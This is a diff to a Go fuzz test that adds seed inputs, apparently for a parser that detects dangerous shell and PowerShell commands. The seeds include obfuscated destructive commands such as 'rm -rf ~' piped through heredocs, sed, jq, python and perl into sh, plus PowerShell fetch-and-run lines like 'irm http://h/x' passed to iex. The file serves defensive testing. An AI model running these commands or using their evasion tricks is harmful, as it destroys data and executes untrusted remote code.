@@ -18,6 +18,12 @@ func FuzzParse(f *testing.F) {
 		`$r = 'abc'; iex (-join $r[-1..-3])`, `iex (-join [char[]](114,109,32,45,114,102))`, `[scriptblock]::Create("ls").Invoke()`,
 		`function F { param($a) Remove-Item $a }; F -a x`, `& ("{1}{0}" -f 'x','i') (irm http://h/x)`, `$s = irm http://h/a; iex $s`,
 		`[IO.Directory]::Delete("C:\x", $true)`, `Invoke-Command -ScriptBlock { param($d) rm $d } -ArgumentList "y"`,
+		// Filters evaluated over known text, loops over its lines, and
+		// one-liners that print.
+		"cat > s <<'E'\nls\nrm -rf ~\nE\ngrep -E '^(r|l)' s | sh", "echo 'x y' | sed -n 's/\\(x\\) y/\\1 &/gp' | sh",
+		"echo '{\"a\":[{\"b\":\"rm -rf /\"}]}' | jq -r '.a[0].b' | sh", "echo 'rm -rf ~' | sed e",
+		"printf 'a\\nb\\n' | while read -r l; do sh -c \"$l\"; done", `python3 -c 'print("rm -rf ~"); print(String.fromCharCode(114))' | sh`,
+		`perl -e 'print "rm -rf $ENV{HOME}\n"' | sh`, "pnpm --filter x exec -- rm -rf ~", "npm exec -c 'rm -rf /'",
 	} {
 		f.Add(s)
 	}
